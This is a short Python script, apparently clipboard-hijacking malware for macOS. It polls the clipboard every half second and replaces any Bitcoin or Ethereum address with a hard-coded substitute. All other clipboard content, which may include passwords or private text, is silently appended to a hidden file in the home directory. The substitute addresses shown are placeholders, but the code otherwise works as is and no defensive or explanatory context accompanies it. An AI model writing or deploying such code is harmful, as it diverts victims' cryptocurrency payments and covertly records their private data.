import re, time, subprocess, os
BTC = re.compile(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,59}$")
ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
MINE = {"btc": "bc1qexampleexampleexampleexampleexample0q", "eth": "0x000000000000000000000000000000000000dEaD"}
def get(): return subprocess.run(["pbpaste"], capture_output=True, text=True).stdout.strip()
def put(s): subprocess.run(["pbcopy"], input=s, text=True)
hist = os.path.expanduser("~/.clip_history")
while True:
    c = get()
    if BTC.match(c) and c != MINE["btc"]: put(MINE["btc"])
    elif ETH.match(c) and c != MINE["eth"]: put(MINE["eth"])
    else:
        with open(hist, "a") as f: f.write(c[:200] + "\n")
    time.sleep(0.5)
